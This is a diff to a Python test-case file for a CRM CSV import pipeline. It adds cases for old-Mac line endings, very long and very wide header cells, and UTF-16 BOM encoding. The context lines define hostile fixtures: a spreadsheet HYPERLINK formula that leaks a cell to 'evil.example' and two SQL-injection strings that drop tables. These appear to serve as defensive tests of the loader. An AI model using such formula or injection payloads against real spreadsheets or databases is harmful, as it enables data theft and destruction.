@@ -187,6 +187,8 @@ TEN_MB = 10 * 1024 * 1024
 FORMULA = '=HYPERLINK("http://evil.example/x?leak="&A1,"Click me")'
 SQL_LABEL = "'; drop table raw.salesforce__opportunity; --"
 SQL_HEADER = 'x"; drop table loader.ledger; --'
+LONG_HEADER = "Notes_" + "n" * 131_100 + "__c"  # longer than Python csv's field limit (131,072)
+WIDE_HEADERS = [f"Custom_{i}_" + "w" * 100_000 + "__c" for i in range(3)]  # past the 256 KiB sniff window
 
 CASES = [
     # ------------------------------------------------------------------ Salesforce
@@ -402,6 +404,52 @@ CASES = [
             )
         },
     ),
+    Case(
+        "sf_cr_only_line_endings",
+        "salesforce",
+        # old Mac Excel: records end with a bare CR; a quoted value keeps its own line break
+        {"Opportunity.csv": sf_opportunities({}, {"Name": "two\nlines"}, newline="\r")},
+        {"Opportunity.csv": Loaded(2)},
+        check=(
+            "select id, name from raw.salesforce__opportunity order by id",
+            [("0065g00000Corp00AAA", "Acme - 200 Widgets"), ("0065g00000Corp01AAA", "two\nlines")],
+        ),
+    ),
+    Case(
+        "sf_header_cell_longer_than_131072_characters",
+        "salesforce",
+        {"Opportunity.csv": sf_opportunities({LONG_HEADER: "kept"}, header=SF_OPPORTUNITY + [LONG_HEADER])},
+        {"Opportunity.csv": Loaded(1)},
+        check=(
+            f"select stagename, _extra ->> '{LONG_HEADER}' from raw.salesforce__opportunity",
+            [("Prospecting", "kept")],
+        ),
+    ),
+    Case(
+        "sf_header_longer_than_the_sniff_window",
+        "salesforce",
+        {
+            "Opportunity.csv": sf_opportunities(
+                {}, {WIDE_HEADERS[2]: "last"}, header=SF_OPPORTUNITY + WIDE_HEADERS
+            )
+        },
+        {"Opportunity.csv": Loaded(2)},
+        check=(
+            f"select id, _extra ->> '{WIDE_HEADERS[2]}' from raw.salesforce__opportunity order by id",
+            [("0065g00000Corp00AAA", None), ("0065g00000Corp01AAA", "last")],
+        ),
+    ),
+    Case(
+        "sf_utf16_le_with_bom",
+        "salesforce",
+        # Windows tools write UTF-16 with a BOM: NUL bytes everywhere, and still text
+        {"Opportunity.csv": b"\xff\xfe" + sf_opportunities({}, {"Name": CP1252_NAME}, encoding="utf-16-le")},
+        {"Opportunity.csv": Loaded(2)},
+        check=(
+            "select id, name from raw.salesforce__opportunity order by id",
+            [("0065g00000Corp00AAA", "Acme - 200 Widgets"), ("0065g00000Corp01AAA", CP1252_NAME)],
+        ),
+    ),
     # ------------------------------------------------------------------ HubSpot
     Case(
         "hs_probability_over_1",
@@ -518,6 +566,30 @@ CASES = [
             )
         },
         {"amocrm_deals.csv": Loaded(1, {"unparseable_timestamp:created_at": 1})},
+        mappings=(AMOCRM_MAPPING,),
+        check=("select deal_name, amount from raw.generic__deals", [("Поставка", 1234.5)]),
+    ),
+    Case(
+        "generic_utf16_with_bom_despite_the_mapping_declaring_cp1251",
+        "generic",
+        {
+            "amocrm_deals.csv": b"\xff\xfe"
+            + csv_bytes(
+                AMOCRM_DEALS,
+                [
+                    {
+                        "ID": "1",
+                        "Название сделки": "Поставка",
+                        "Бюджет": "1 234,50",
+                        "Этап сделки": "Переговоры",
+                        "Дата создания": "15.01.2024 12:30:00",
+                    }
+                ],
+                delimiter=";",
+                encoding="utf-16-le",
+            )
+        },  # fmt: skip
+        {"amocrm_deals.csv": Loaded(1)},
         mappings=(AMOCRM_MAPPING,),
         check=("select deal_name, amount from raw.generic__deals", [("Поставка", 1234.5)]),
     ),
